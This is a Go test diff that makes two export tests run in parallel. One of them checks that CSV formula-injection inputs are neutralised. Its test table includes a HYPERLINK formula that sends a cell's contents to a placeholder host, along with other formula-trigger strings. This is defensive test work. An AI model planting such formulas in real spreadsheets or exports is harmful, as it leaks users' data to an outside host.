@@ -35,6 +35,7 @@ func seed(t *testing.T, db *store.DB) {
 }
 
 func TestExportCSVAndJSON(t *testing.T) {
+	t.Parallel()
 	db := storetest.Open(t)
 	seed(t, db)
 	forms, err := flows.Default()
@@ -120,6 +121,7 @@ func TestExportCSVAndJSON(t *testing.T) {
 
 // Formulas are defused in CSV; numbers are left alone.
 func TestCSVDefusesFormulas(t *testing.T) {
+	t.Parallel()
 	for in, want := range map[string]string{
 		`=HYPERLINK("http://x?"&A1,"Bấm")`: `'=HYPERLINK("http://x?"&A1,"Bấm")`,
 		"+1+1":                             "'+1+1", "@SUM(A1)": "'@SUM(A1)", "-2+3": "'-2+3", "\tx": "'\tx",
